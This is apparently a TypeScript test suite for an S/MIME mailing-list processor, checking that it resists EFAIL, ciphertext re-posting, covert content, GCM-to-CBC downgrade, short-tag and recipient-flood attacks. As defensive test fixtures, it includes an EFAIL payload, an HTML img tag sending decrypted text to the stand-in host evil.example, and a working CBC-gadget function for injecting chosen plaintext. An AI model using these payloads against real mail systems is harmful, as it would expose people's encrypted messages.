import { randomBytes } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import { cbc, forgeEnvelope, gcm } from '../cms/forge.ts';
import { gcmAsCbc } from '../e2e/surgery.ts';
import { cmsEncrypt } from '../kit/openssl.ts';
import { cmsEntity, mailOf, textEntity } from '../kit/smime-mime.ts';
import {
  encrypted,
  from,
  makePeople,
  opaque,
  open,
  openEntity,
  type People,
  plain,
  shown,
  signed,
} from '../smime/messages.ts';
import {
  aeadEnvelope,
  answer,
  cbcEncrypt,
  cbcEnvelope,
  contentKey,
  gcmEnvelope,
  iv,
  multipartOf,
  nonce,
  outcome,
  signedBy,
  transported,
} from './scene.ts';

// Somebody has seen a ciphertext that the list can open, and wants to read it.

const secret = 'the wedding is on Friday';
let people: People;
let inside: Buffer;
beforeAll(async () => {
  people = await makePeople();
  inside = await encrypted(people.list, await signed(people.alice, plain));
});

const html = (text: string) => `Content-Type: text/html\r\n\r\n${text}`;
const fromMallory = (entity: Buffer) => open(people, mailOf(from(people.mallory.address), entity));

describe('EFAIL direct exfiltration (Poddebniak et al. 2018)', () => {
  const gadget = (type: string) =>
    multipartOf(type, html('<img src="http://evil.example/'), inside, html('">'));

  it.each([
    'multipart/mixed',
    'multipart/alternative',
    'multipart/related',
    'multipart/digest',
    'multipart/x',
  ])('a ciphertext between two pieces of HTML in a %s is not decrypted', (type) => {
    const report = fromMallory(gadget(type));
    expect(outcome(report)).toEqual(answer('none', 'unsigned'));
    expect([report.encrypted, shown(report)?.includes(secret)]).toEqual([false, false]);
  });

  it('nor inside a signature, or an encryption and a signature, of the attacker', async () => {
    for (const [wrap, layers] of [
      [(e: Buffer) => signed(people.mallory, e), 'detached'],
      [(e: Buffer) => opaque(people.mallory, e), 'opaque'],
      [async (e: Buffer) => encrypted(people.list, await signed(people.mallory, e)), 'encrypted detached'],
    ] as const) {
      const report = fromMallory(await wrap(gadget('multipart/mixed')));
      expect(outcome(report)).toEqual(signedBy(people.mallory.address, layers));
      expect(shown(report)).not.toContain(secret);
    }
  });
});

describe('EFAIL CBC gadget (Poddebniak et al. 2018)', () => {
  /** The blocks of a CBC ciphertext whose first plaintext block is known, with a chosen text put in at `at`. */
  function withGadget(ciphertext: Buffer, known: Buffer, chosen: string, at: number): Buffer {
    const first = ciphertext.subarray(0, 16);
    const pairs = chosen.match(/[\s\S]{16}/g) ?? [];
    const gadgets = pairs.map((block) => {
      const before = Buffer.from(block, 'latin1');
      for (let i = 0; i < 16; i++)
        before[i] = (before[i] as number) ^ (iv[i] as number) ^ (known[i] as number);
      return Buffer.concat([before, first]);
    });
    return Buffer.concat([ciphertext.subarray(0, at), ...gadgets, ciphertext.subarray(at)]);
  }
  const chosen = '<img src="http:/' + '/evil.example/a"';

  it('a chosen text in an encrypted, unsigned message opens, and stays unauthenticated', () => {
    const entity = textEntity(`Dear friends,\n${secret}\n${'x'.repeat(64)}\n`);
    const changed = withGadget(cbcEncrypt(entity), entity, chosen, 96);
    const report = openEntity(people, cmsEntity(cbcEnvelope(people.list, changed), 'enveloped-data'));
    expect(outcome(report)).toEqual(answer('encrypted', 'unsigned'));
    // The attack itself works, so that this test would see a verdict that believes it.
    expect(shown(report)).toContain(chosen.slice(0, 16));
  });

  it('a chosen text inside what was signed breaks the signature', async () => {
    const entity = await signed(people.alice, textEntity(`${secret}\n${'x'.repeat(640)}\n`));
    const start = entity.indexOf('xxxx');
    const changed = withGadget(cbcEncrypt(entity), entity, chosen, (start + 64) & ~15);
    const report = openEntity(people, cmsEntity(cbcEnvelope(people.list, changed), 'enveloped-data'));
    expect(outcome(report)).toEqual(answer('encrypted broken', 'invalid', 'bad-digest'));
  });

  it('a chosen text before what was signed leaves no signature of hers', async () => {
    const entity = await signed(people.alice, textEntity(`${secret}\n`));
    const changed = withGadget(cbcEncrypt(entity), entity, 'Content-Type: text/html\r\nX: a\r\nY: ', 0);
    const report = openEntity(people, cmsEntity(cbcEnvelope(people.list, changed), 'enveloped-data'));
    expect(report.signature).toBe(null);
    expect(outcome(report)).toEqual(answer('encrypted', 'unsigned'));
  });

  it('the same in AES-GCM does not open at all', async () => {
    const der = gcmEnvelope(people.list, textEntity(`Dear friends,\n${secret}\n`));
    for (let at = der.length - 40; at < der.length; at++) {
      const changed = Buffer.from(der);
      changed[at] = (changed[at] as number) ^ 1;
      if (at === der.length - 18 || at === der.length - 17) continue; // tag and length of the MAC: structure
      const report = openEntity(people, cmsEntity(changed, 'authEnveloped-data'));
      expect(outcome(report)).toEqual(answer('locked', 'unopened', 'decrypt-failed'));
      expect(report.entity).toBe(null);
    }
  });
});

describe('re-posted ciphertext', () => {
  it('bare: unauthenticated, and the poster is not its author', async () => {
    const bare = await encrypted(people.list, plain);
    expect(outcome(fromMallory(bare))).toEqual(answer('encrypted', 'unsigned'));
    // With Alice's signature inside it is Alice's, whoever posts it: From Mallory does not fit.
    expect(outcome(fromMallory(inside))).toEqual(
      answer('encrypted detached', 'mismatch', 'no-address-match'),
    );
  });

  it('inside an attacker\u2019s own signature: the signature proves nothing (RULES 1)', async () => {
    for (const wrap of [signed, opaque]) {
      const form = wrap === signed ? 'detached' : 'opaque';
      const bare = fromMallory(await wrap(people.mallory, await encrypted(people.list, plain)));
      expect(outcome(bare)).toEqual(answer(`${form} encrypted`, 'unsigned', 'outer-only'));
      const hers = fromMallory(await wrap(people.mallory, inside));
      expect(outcome(hers)).toEqual(answer(`${form} encrypted detached`, 'mismatch', 'no-address-match'));
    }
  });

  it('encrypted once more together with the attacker\u2019s signature', async () => {
    const wrapped = await encrypted(
      people.list,
      await signed(people.mallory, await encrypted(people.list, plain)),
    );
    expect(outcome(fromMallory(wrapped))).toEqual(
      answer('encrypted detached encrypted', 'unsigned', 'outer-only'),
    );
  });

  it('surreptitious forwarding (Davis 2001): the signature stays hers, and the replay memory has its name', async () => {
    const hers = await signed(people.alice, plain);
    const first = openEntity(people, await encrypted(people.list, hers));
    const again = openEntity(people, await encrypted(people.list, hers, { cipher: 'aes-128-cbc' }));
    expect(first.signature?.signatureSha256).toMatch(/^[0-9a-f]{64}$/);
    expect(again.signature?.signatureSha256).toBe(first.signature?.signatureSha256);
  });
});

describe('covert content (Müller et al. 2019)', () => {
  it.each<[string, (ciphertext: Buffer) => Buffer]>([
    ['mixed', (c) => multipartOf('multipart/mixed', html('Hello. What do you think?'), c)],
    ['alternative', (c) => multipartOf('multipart/alternative', html('Hello.'), c)],
    ['message/rfc822', (c) => Buffer.concat([Buffer.from('Content-Type: message/rfc822\r\n\r\n'), c])],
    [
      'mixed in mixed',
      (c) => multipartOf('multipart/mixed', html('Hello.'), multipartOf('multipart/mixed', c)),
    ],
    [
      'a multipart/encrypted',
      (c) => multipartOf('multipart/encrypted; protocol="application/pkcs7-mime"', 'Version: 1', c),
    ],
  ])('a ciphertext under a harmless text in %s stays as it is', (_, wrap) => {
    const report = fromMallory(wrap(inside));
    expect(outcome(report)).toEqual(answer('none', 'unsigned'));
    expect(shown(report)).not.toContain(secret);
    expect(shown(report)).toContain(inside.toString('latin1').split('\r\n').at(-3));
  });

  it('nor under an encryption that opens', async () => {
    const wrapped = await encrypted(people.list, multipartOf('multipart/mixed', html('Hello.'), inside));
    const report = fromMallory(wrapped);
    expect(outcome(report)).toEqual(answer('encrypted', 'unsigned'));
    expect(shown(report)).not.toContain(secret);
  });
});

describe('short GCM tags', () => {
  const opened = (o: { announced?: number; tagLength?: number }) =>
    outcome(openEntity(people, cmsEntity(gcmEnvelope(people.list, plain, o), 'authEnveloped-data')));

  it.each([12, 16])('a tag of %i octets that is announced opens', (length) => {
    expect(opened({ announced: length, tagLength: length })).toEqual(answer('encrypted', 'unsigned'));
  });
  it.each([0, 1, 4, 8, 11, 17])('an announced length of %i octets is refused', (length) => {
    expect(opened({ announced: length, tagLength: length })).toEqual(
      answer('none', 'malformed', 'malformed'),
    );
  });
  it.each([0, 1, 4, 12, 15])('16 octets announced, %i there', (length) => {
    expect(opened({ tagLength: length })).toEqual(answer('locked', 'unopened', 'decrypt-failed'));
  });
});

describe('other authenticated ciphers', () => {
  const opened = (
    ...args: [mode: 'ccm' | 'chacha20', text: Buffer, o?: Parameters<typeof aeadEnvelope>[3]]
  ) => outcome(openEntity(people, cmsEntity(aeadEnvelope(people.list, ...args), 'authEnveloped-data')));

  it.each(['ccm', 'chacha20'] as const)('%s opens, and a flipped octet of text or tag does not', (mode) => {
    expect(opened(mode, plain)).toEqual(answer('encrypted', 'unsigned'));
    const failed = answer('locked', 'unopened', 'decrypt-failed');
    for (const part of ['ciphertext', 'mac'] as const)
      for (let at = 0; at < 12; at++)
        expect(
          opened(mode, plain, {
            change: (sealed) => {
              sealed[part][at] = (sealed[part][at] as number) ^ 1;
            },
          }),
        ).toEqual(failed);
  });

  it.each(['ccm', 'chacha20'] as const)('%s: no content at all has a right tag, too', (mode) => {
    expect(opened(mode, Buffer.alloc(0))).toEqual(answer('encrypted', 'unsigned'));
    expect(opened(mode, Buffer.alloc(0), { change: ({ mac }) => mac.fill(0) })).toEqual(
      answer('locked', 'unopened', 'decrypt-failed'),
    );
  });

  it.each([0, 4, 6, 8, 10, 11, 13, 15])('CCM with an announced tag of %i octets is refused', (announced) => {
    expect(opened('ccm', plain, { announced })).toEqual(answer('none', 'malformed', 'malformed'));
  });
});

describe('cross-mode downgrade, GCM to CBC (Strenzke and Roth 2024)', () => {
  it('AuthEnvelopedData made to EnvelopedData never gives what was encrypted', async () => {
    const der = await cmsEncrypt([people.list], await signed(people.alice, plain), { cipher: 'aes-256-gcm' });
    const report = openEntity(people, cmsEntity(gcmAsCbc(der), 'enveloped-data'));
    // Noise whose last octet says by chance that it is padded right opens to noise.
    expect([answer('locked', 'unopened', 'decrypt-failed'), answer('encrypted', 'unsigned')]).toContainEqual(
      outcome(report),
    );
    expect(shown(report) ?? '').not.toContain(secret);
  });

  it('with good padding, the worst case, it is unsigned content and no proof', async () => {
    // Chosen key stream blocks, as the attack asks for them, and a last block that is padded right.
    const blocks = Buffer.concat([cbcEncrypt(randomBytes(48), false), randomBytes(16)]);
    const last = cbcEncrypt(Buffer.alloc(16, 16), false);
    const chained = Buffer.concat([blocks, iv, last]);
    const report = openEntity(people, cmsEntity(cbcEnvelope(people.list, chained), 'enveloped-data'));
    expect(outcome(report)).toEqual(answer('encrypted', 'unsigned'));
    expect(report.signature).toBe(null);
  });

  it('a GCM cipher named in EnvelopedData, and a CBC one in AuthEnvelopedData, are unsupported', () => {
    const recipients = [transported(people.list, contentKey)];
    const ciphertext = cbcEncrypt(plain);
    const withoutTag = forgeEnvelope({ recipients, algorithm: gcm(nonce, 16), ciphertext });
    const withTag = forgeEnvelope({ recipients, algorithm: cbc(iv), ciphertext, mac: Buffer.alloc(16) });
    for (const der of [withoutTag, withTag])
      expect(outcome(openEntity(people, cmsEntity(der, 'enveloped-data')))).toEqual(
        answer('locked', 'unopened', 'unsupported'),
      );
  });
});

describe('ten thousand RecipientInfos', () => {
  it.each([1_001, 10_000])('%i are too many, before any key is used', (count) => {
    const recipient = transported(people.mallory, contentKey);
    const recipients = [...Array(count - 1).fill(recipient), transported(people.list, contentKey)];
    const der = cbcEnvelope(people.list, cbcEncrypt(plain), recipients);
    const began = process.cpuUsage();
    const report = openEntity(people, cmsEntity(der, 'enveloped-data'));
    expect(outcome(report)).toEqual(answer('none', 'malformed', 'budget'));
    expect(process.cpuUsage(began).user).toBeLessThan(2_000_000);
  });

  it('a thousand that all name the list cost four private-key operations', () => {
    const wrong = Array(999).fill(transported(people.list, Buffer.alloc(31)));
    const der = cbcEnvelope(people.list, cbcEncrypt(plain), [...wrong, transported(people.list, contentKey)]);
    const began = process.cpuUsage();
    const { layers, verdict } = outcome(openEntity(people, cmsEntity(der, 'enveloped-data')));
    // Four substitute keys: CBC noise may look padded.
    expect([
      ['locked', 'unopened'],
      ['encrypted', 'unsigned'],
    ]).toContainEqual([layers, verdict]);
    expect(process.cpuUsage(began).user).toBeLessThan(1_000_000);
  });
});
